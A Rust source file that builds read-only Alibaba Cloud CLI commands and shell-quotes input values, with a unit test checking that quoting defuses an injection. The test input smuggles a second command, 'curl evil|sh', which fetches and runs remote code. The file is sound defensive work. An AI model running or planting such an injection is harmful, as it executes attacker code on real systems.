//! The read-only commands that would bring what is missing.

use alloc::string::String;

/// A command of the provider's command line. What comes from the input is quoted, so that a command that somebody copies
/// runs nothing but itself.
pub(crate) fn ask(call: &str, region: Option<&str>, args: &[(&str, &str)]) -> String {
    let mut command = String::from("aliyun ");
    command.push_str(call);
    let region = region.map(|region| ("RegionId", region));
    for (name, value) in region.iter().chain(args) {
        command.extend([" --", name, " "]);
        quote(&mut command, value);
    }
    command
}

fn quote(command: &mut String, value: &str) {
    let plain = |char: char| char.is_ascii_alphanumeric() || "-_.:/".contains(char);
    if !value.is_empty() && value.chars().all(plain) {
        command.push_str(value);
        return;
    }
    command.push('\'');
    for char in value.chars().filter(|char| !char.is_control()) {
        match char {
            '\'' => command.push_str(r"'\''"),
            char => command.push(char),
        }
    }
    command.push('\'');
}

#[cfg(test)]
mod tests {
    use super::ask;

    #[test]
    fn an_id_cannot_become_a_command() {
        let command = ask(
            "ecs X",
            Some("cn-hangzhou"),
            &[("Id", "sg-1'; curl evil|sh #\n")],
        );
        assert_eq!(
            command,
            r"aliyun ecs X --RegionId cn-hangzhou --Id 'sg-1'\''; curl evil|sh #'"
        );
    }
}
